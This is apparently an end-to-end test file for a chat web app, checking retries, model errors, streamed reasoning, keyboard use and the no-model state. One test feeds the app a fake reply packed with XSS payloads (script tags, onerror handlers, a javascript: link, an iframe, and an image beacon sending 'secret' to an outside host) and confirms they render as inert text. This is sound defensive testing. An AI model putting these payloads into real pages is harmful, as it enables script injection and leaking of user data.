// The chat page when things go wrong or come in odd shapes: lines that break, models that refuse, words that bite; with keys
// alone, and with nobody there yet.
import assert from "node:assert/strict";
import { after, test } from "node:test";
import { checkAccess, closeBrowser, drawn } from "./house.js";
import { atTheInn, field, last, meet, messages, quiet, said, say } from "./inn.js";

after(closeBrowser);

test("a message is never sent twice, whatever the line does", async (t) => {
  const { tavern, page, model, context } = await atTheInn(t);
  await meet(page);
  // The server gets it, and its answer is lost on the way.
  await page.route("**/api/v1/generations", async (route) => {
    await route.fetch();
    await route.abort("connectionreset");
  }, { times: 1 });
  model.says("I heard you the first time.");
  await say(page, "Are you there?");
  const unsent = page.locator(".unsent.failed");
  await Promise.race([unsent.waitFor(), said(page, "I heard you the first time.").waitFor()]);
  await said(page, "I heard you the first time.").waitFor();
  await quiet(page);
  if (await unsent.count()) await unsent.getByRole("button", { name: "Send again" }).click();
  await unsent.waitFor({ state: "detached" });
  await quiet(page);
  assert.equal(await said(page, /^Are you there\?$/).count(), 1);

  // And now it never gets there; what was written is kept over a reload.
  await page.route("**/api/v1/generations", (route) => route.abort("connectionrefused"), { times: 1 });
  await say(page, "Still there?");
  await unsent.getByText("Not sent, as far as we can tell.").waitFor();
  await page.reload();
  await drawn(page);
  model.says("Still here.");
  await unsent.getByRole("button", { name: "Send again" }).click();
  await said(page, "Still here.").waitFor();
  await quiet(page);
  assert.equal(await said(page, /^Still there\?$/).count(), 1);
  await field(page).fill("half a thou");
  await page.reload();
  await drawn(page);
  assert.equal(await field(page).inputValue(), "half a thou");
  await context.setOffline(true);
  await page.getByText("You are offline.").waitFor();
  await context.setOffline(false);
  await page.getByText("You are offline.").waitFor({ state: "detached" });
  // The browser logs the breaks that this test makes.
  const others = tavern.faults.filter((fault) => !/net::ERR_(CONNECTION|INTERNET|NETWORK|INCOMPLETE)/.test(fault));
  tavern.faults.splice(0, Infinity, ...others);
});

test("a model that refuses is told of in words, and asked again", async (t) => {
  const { page, model } = await atTheInn(t);
  await meet(page);
  model.says({ text: "", refuses: { status: 401, message: "Incorrect API key provided" } });
  await say(page, "Hello?");
  await page.getByText("No reply.").waitFor();
  assert.equal(await messages(page).count(), 2);
  assert.equal(await page.getByRole("button", { name: "Ask for a reply" }).count(), 0, "one way on");
  model.says("Here I am.");
  await page.getByRole("button", { name: "Try again" }).click();
  await said(page, "Here I am.").waitFor();
  await quiet(page);
  assert.equal(await page.getByText("No reply.").count(), 0);
  model.says({ text: "The line goes dead in the middle of", cutAt: 5, pace: 30 });
  await say(page, "And then?");
  await said(page, "The line goes dead in").waitFor();
  await page.getByText("The reply broke off.").waitFor();
  await quiet(page);
  assert.equal(await page.getByText("No reply.").count(), 0, "there are words");
  const on = page.getByRole("button", { name: "Continue", exact: true });
  assert.equal(await on.count(), 1, "one way on");
  await page.reload();
  await drawn(page);
  await page.getByText("Unfinished: the reply broke off here.").waitFor();
  assert.equal(await on.count(), 1, "one way on, later too");
  model.says(" the night.");
  await on.click();
  await said(page, /The line goes dead in.*the night/).waitFor();
  await page.getByText("Unfinished: the reply broke off here.").waitFor({ state: "detached" });
});

test("whoever waits for thoughts sees that they go on, and can read along", async (t) => {
  const { page, model } = await atTheInn(t);
  await meet(page);
  model.says({ thinking: "The guest is cold. Soup would be kind, and a blanket. ", text: "Sit by the fire.", pace: 500 });
  await say(page, "It is cold.");
  const thoughts = last(page).locator(".thinking summary");
  await thoughts.getByText(/^Thinking… \d+ second/).waitFor();
  await thoughts.click();
  await last(page).getByText("The guest is cold.").waitFor();
  await said(page, "Sit by the fire.").waitFor();
  await thoughts.getByText(/^Thoughts, \d+ seconds? long$/).waitFor();
});

test("thoughts are folded, code has colours, and what bites stays text", async (t) => {
  const { page, model } = await atTheInn(t);
  await meet(page);
  model.says({
    thinking: "They want code. <img src=x onerror=alert(1)> Let me think. ",
    text:
      "Here:\n\n```js\nconst a = \"<script>alert(1)</script>\"; // one\n```\n\n<script>alert(1)</script><img src=x onerror=alert(1)>" +
      "<iframe srcdoc='<script>alert(1)</script>'></iframe>\n\n[x](javascript:alert(1)) ![beacon](https://outside.invalid/?q=secret)" +
      "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<style>*{display:none}</style> done",
    pace: 2,
  });
  await say(page, "Code, please.");
  await quiet(page);
  const reply = last(page);
  await reply.locator(".hl-keyword").first().waitFor();
  await reply.locator("td", { hasText: "2" }).waitFor();
  assert.equal(await reply.locator("script, iframe, style, [onerror], a[href^=javascript]").count(), 0);
  await reply.getByRole("link", { name: "picture: outside.invalid" }).waitFor();
  await reply.getByText("Thoughts").click();
  await reply.getByText("Let me think.").waitFor();
  await checkAccess(page, "a reply with everything");
});

test("with keys alone", async (t) => {
  const { page, model } = await atTheInn(t);
  await page.keyboard.press("Control+k");
  await page.keyboard.type("mira");
  await page.getByText("1 result").waitFor();
  await page.keyboard.press("Enter");
  await said(page, "The fire is lit.").waitFor();
  await page.waitForFunction(() => document.activeElement?.matches(".composer textarea"));
  model.says({ text: "Typing is enough for me too.", holdAt: 4 });
  await page.keyboard.type("No mouse tonight.");
  await page.keyboard.press("Enter");
  await said(page, "Typing is enough for").waitFor();
  await page.keyboard.press("Escape");
  await quiet(page);
  model.says("Written anew.");
  await page.keyboard.press("Control+Enter");
  await said(page, "Written anew.").waitFor();
  await quiet(page);
  await page.keyboard.press("?");
  await page.getByRole("dialog", { name: "Keys" }).waitFor();
  await page.keyboard.press("Escape");
  await page.keyboard.press("ArrowUp");
  await page.waitForFunction(() => document.activeElement?.matches(".edit"));
  await page.keyboard.press("Escape");
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.activeElement?.matches(".tools button"));
});

test("nobody here yet: the plain assistant and the echo", async (t) => {
  const { page } = await atTheInn(t, { model: false, cards: false });
  await page.getByText("No model is connected yet.").waitFor();
  await page.getByRole("button", { name: "Talk to the plain assistant" }).click();
  await field(page).waitFor();
  await page.getByText("so the echo answers").waitFor();
  await say(page, "Hello, echo.");
  await quiet(page);
  assert.ok((await last(page).innerText()).includes("Hello, echo."));
});
